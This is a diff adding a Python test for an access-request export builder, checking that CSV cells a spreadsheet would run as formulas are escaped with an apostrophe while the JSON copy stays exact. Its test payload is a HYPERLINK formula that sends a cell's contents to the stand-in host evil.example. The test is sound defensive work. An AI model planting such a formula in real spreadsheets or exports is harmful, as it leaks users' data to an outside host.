@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import uuid
@@ -172,3 +173,30 @@ def test_opening_a_package_that_was_never_stored_says_how_to_make_it(
             home=tmp_path,
             reference="DW-2026-000011",
         )
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+    record = FoundRecord(
+        "helpdesk",
+        "tickets",
+        (7,),
+        {"id": 7, "subject": payload, "phone": "+447700900001", "delta": -5, "tag": "@SUM(1)"},
+        {"subject": ["user.content"]},
+    )
+    package = Package(
+        reference="DW-2026-000010",
+        kind="access",
+        controller="Kestrel IT Ltd",
+        generated_at=GENERATED,
+        records=[record],
+        files={},
+        searched=[SearchedLine("helpdesk", "tickets", 1)],
+    )
+    archive = zipfile.ZipFile(io.BytesIO(build_package(package)))
+    text = archive.read("csv/helpdesk/tickets.csv").decode("utf-8-sig")
+    row = next(csv.reader(io.StringIO(text[text.index("\r\n") + 2 :])))
+    assert row == ["7", "'" + payload, "'+447700900001", "-5", "'@SUM(1)"]
+    data = json.loads(archive.read("data.json"))
+    fields = data["systems"]["helpdesk"]["tickets"][0]["fields"]
+    assert fields["subject"]["value"] == payload  # the machine-readable copy stays exact
